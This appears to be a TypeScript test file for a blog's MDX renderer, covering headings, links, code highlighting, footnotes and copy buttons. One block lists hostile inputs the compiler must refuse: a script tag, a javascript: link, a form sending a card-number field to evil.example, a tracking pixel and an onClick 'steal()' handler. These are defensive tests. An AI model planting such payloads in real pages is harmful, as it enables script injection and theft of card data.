import assert from "node:assert/strict";
import { test } from "node:test";
import { renderToStaticMarkup } from "react-dom/server";
import { renderMdx } from "./mdx";
import { renderMdxToStaticHtml } from "./mdx-static";
import { feedHtml } from "../publish/feed-html";

const postUrl = "https://blog.example/posts/x";

const body = [
  "# Not listed",
  "## Why it *matters*",
  "Text.",
  "### The `capture` call",
  "#### Too deep to list",
  "## Why it *matters*",
].join("\n\n");

test("collects h2 and h3 headings with the ids the page gives them, in order", async () => {
  const { content, headings } = await renderMdx(body);
  assert.deepEqual(headings, [
    { id: "why-it-matters", text: "Why it matters", depth: 2 },
    { id: "the-capture-call", text: "The capture call", depth: 3 },
    { id: "why-it-matters-1", text: "Why it matters", depth: 2 },
  ]);
  const html = renderToStaticMarkup(content);
  for (const { id } of headings) assert.match(html, new RegExp(`<h[23] id="${id}">`));
});

test("a body without sections has no headings", async () => {
  assert.deepEqual((await renderMdx("Just a paragraph.")).headings, []);
});

test("links to other sites get rel=noopener noreferrer; links inside the journal don't", async () => {
  const source = "See [the standard](https://www.pcisecuritystandards.org), [a post](/posts/x) and [below](#end).";
  const html = renderToStaticMarkup((await renderMdx(source)).content);
  assert.match(html, /<a href="https:\/\/www\.pcisecuritystandards\.org" rel="noopener noreferrer">the standard<\/a>/);
  assert.match(html, /<a href="\/posts\/x">a post<\/a>/);
  assert.match(html, /<a href="#end">below<\/a>/);
});

test("inline code stays plain inline <code>; fenced blocks are highlighted", async () => {
  const html = renderToStaticMarkup(
    (await renderMdx("Call `capture` after `authorize`.\n\n```ts\nconst amount = 100;\n```")).content,
  );
  assert.match(html, /<p>Call <code>capture<\/code> after <code>authorize<\/code>\.<\/p>/);
  assert.match(html, /<figure data-rehype-pretty-code-figure=""><pre[^>]*data-language="ts"/);
  assert.match(html, /style="--shiki-light:#[0-9A-Fa-f]{6};--shiki-dark:#[0-9A-Fa-f]{6}"/);
});

test("an author can still ask for a highlighted inline token", async () => {
  const html = renderToStaticMarkup((await renderMdx("The `const x = 1{:ts}` line.")).content);
  assert.match(html, /<span data-rehype-pretty-code-figure=""><code data-language="ts"/);
});

// The second line of defence: a body that breaks the content rules never compiles, for the page or a feed.
const hostile = [
  "<script>window.x = 1</script>",
  '<a href="javascript:alert(1)">pay</a>',
  '<form action="https://evil.example"><input name="pan" /></form>',
  "![tracker](https://tracker.example/p.gif)",
  '<span onClick="steal()">x</span>',
];

for (const source of hostile) {
  test(`a body with ${source} is refused when compiled for the page and for a feed`, async () => {
    await assert.rejects(renderMdx(source, "posts/hostile.mdx"), /^Error: posts\/hostile\.mdx:1: /);
    await assert.rejects(renderMdxToStaticHtml(source, {}, "the feed entry of /posts/hostile"), /the feed entry/);
  });
}

test("the allowed HTML renders as written", async () => {
  const html = renderToStaticMarkup(
    (
      await renderMdx(
        '<kbd>Ctrl</kbd> <abbr title="Primary account number">PAN</abbr> x<sup>2</sup>\n\n<details open>\n<summary>More</summary>\n\nHidden.\n\n</details>',
      )
    ).content,
  );
  assert.match(html, /<kbd>Ctrl<\/kbd> <abbr title="Primary account number">PAN<\/abbr> x<sup>2<\/sup>/);
  assert.match(html, /<details open=""><summary>More<\/summary><p>Hidden.<\/p><\/details>/);
});

test("a code block carries a hidden Copy button and a status line; inline code and feeds get none", async () => {
  const source = "Call `capture` first.\n\n```ts\nconst amount = 100;\n```";
  const html = renderToStaticMarkup((await renderMdx(source)).content);
  const figure = /<figure data-rehype-pretty-code-figure="">[\s\S]*?<\/figure>/.exec(html)?.[0] ?? "";
  assert.match(figure, /<button type="button" hidden="" data-copy-code="" data-print-hidden="">Copy<\/button>/);
  assert.match(
    figure,
    /<span role="status" class="sr-only" data-copy-status="" data-print-hidden=""><\/span><\/figure>$/,
  );
  assert.equal(html.match(/data-copy-code/g)?.length, 1);
  assert.doesNotMatch(feedHtml(await renderMdxToStaticHtml(source, {}), postUrl), /Copy|data-copy/);
});

test("footnotes end the post as a numbered list with back-links, and repeat in the margin for wide screens", async () => {
  const source =
    "A claim[^std] and another[^two].\n\n[^std]: The [standard](https://example.com/pci), v3.2.\n[^two]: A *second* note.\n";
  const { content, headings } = await renderMdx(source);
  const html = renderToStaticMarkup(content);
  assert.deepEqual(headings.at(-1), { id: "footnote-label", text: "Notes", depth: 2 });
  assert.match(
    html,
    /<li id="user-content-fn-std">\s*<p>The <a href="https:\/\/example.com\/pci"[^>]*>standard<\/a>, v3.2. <a href="#user-content-fnref-std" data-footnote-backref="" aria-label="Back to reference 1"/,
  );
  // The margin copy follows its reference, hidden from screen readers, its links out of the tab order.
  assert.match(
    html,
    /id="user-content-fnref-std"[^>]*>1<\/a><\/sup><span class="sidenote" aria-hidden="true" data-print-hidden=""><sup>1<\/sup> The <a href="https:\/\/example.com\/pci"[^>]* tabindex="-1">standard<\/a>, v3.2.<\/span>/,
  );
  assert.match(html, /<span class="sidenote"[^>]*><sup>2<\/sup> A <em>second<\/em> note.<\/span>/);
  assert.equal(html.match(/data-footnote-backref=""/g)?.length, 2, "no back-link is copied into the margin");
  const feed = feedHtml(await renderMdxToStaticHtml(source, {}), postUrl);
  assert.match(feed, /<section><h2 id="footnote-label">Notes<\/h2>/);
  assert.doesNotMatch(feed, /sidenote/);
});
